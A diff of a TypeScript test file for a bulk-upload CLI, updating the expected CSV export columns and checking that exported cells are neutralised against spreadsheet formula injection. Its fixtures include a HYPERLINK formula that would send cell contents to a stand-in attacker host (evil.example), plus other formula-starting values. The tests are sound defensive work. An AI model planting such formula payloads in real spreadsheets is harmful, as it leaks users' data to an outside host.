@@ -178,14 +178,17 @@ describe('bulk-desk CLI', () => {
       .replace(/^\uFEFF/, '')
       .trimEnd()
       .split('\r\n');
-    expect(lines[0]).toBe('email,name,department,outcome,response_status,error,attempts,Member ID');
+    // The columns and names History shows, the same as the app's download and jobs.export (jobColumns.ts).
+    expect(lines[0]).toBe('email,name,department,Row,Outcome,HTTP status,Attempts,Error,Note,Key,Member ID');
     expect(lines).toHaveLength(5);
     expect(lines[1]).toMatch(
-      /^ann@example\.com,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1;""click""\)",Sales,succeeded,201,,1,\d+$/,
+      /^ann@example\.com,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1;""click""\)",Sales,2,succeeded,201,1,,(?:"Read back: [^"]*"|),email=ann@example\.com,\d+$/,
     );
-    expect(lines[2]).toMatch(/^bob@example\.com,'\+31 6 1234,'-Finance,succeeded,201,/);
-    expect(lines[3]).toMatch(/^not-an-email,'@SUM\(A1:A9\),Legal,skipped,,/);
-    expect(lines[4]).toMatch(/^cleo@example\.com,"Cleo, Jr\.",Ops,succeeded,201,/);
+    expect(lines[2]).toMatch(/^bob@example\.com,'\+31 6 1234,'-Finance,3,succeeded,201,/);
+    expect(lines[3]).toBe(
+      `not-an-email,'@SUM(A1:A9),Legal,4,skipped (invalid),,0,"Row 4: Email: ""not-an-email"" is not an email address",,,`,
+    );
+    expect(lines[4]).toMatch(/^cleo@example\.com,"Cleo, Jr\.",Ops,5,succeeded,201,/);
     // No cell in the file starts a formula.
     for (const line of lines.slice(1))
       for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
@@ -195,7 +198,7 @@ describe('bulk-desk CLI', () => {
     // The original columns, then why the row was not sent (the column that marks the file as ours).
     expect(failed.stdout.replace(/^\uFEFF/, '')).toBe(
       'email,name,department,Bulk Desk: why it was not sent\r\n' +
-        `not-an-email,'@SUM(A1:A9),Legal,"Row 4: email: Email: ""not-an-email"" is not an email address"\r\n`,
+        `not-an-email,'@SUM(A1:A9),Legal,"Row 4: Email: ""not-an-email"" is not an email address"\r\n`,
     );
 
     const asJson = await cli(['jobs', 'export', jobId, '--format', 'json', ...D]);
@@ -205,7 +208,7 @@ describe('bulk-desk CLI', () => {
       input: Record<string, string>;
       captured?: Record<string, string | null>;
     }[];
-    expect(rows.map((r) => r.outcome)).toEqual(['succeeded', 'succeeded', 'skipped', 'succeeded']);
+    expect(rows.map((r) => r.outcome)).toEqual(['succeeded', 'succeeded', 'skipped (invalid)', 'succeeded']);
     expect(rows[0]!.input.name).toBe('=HYPERLINK("http://evil.example/?x="&A1;"click")'); // JSON keeps the value as is
     expect(rows[0]!.captured?.['Member ID']).toMatch(/^\d+$/);
 
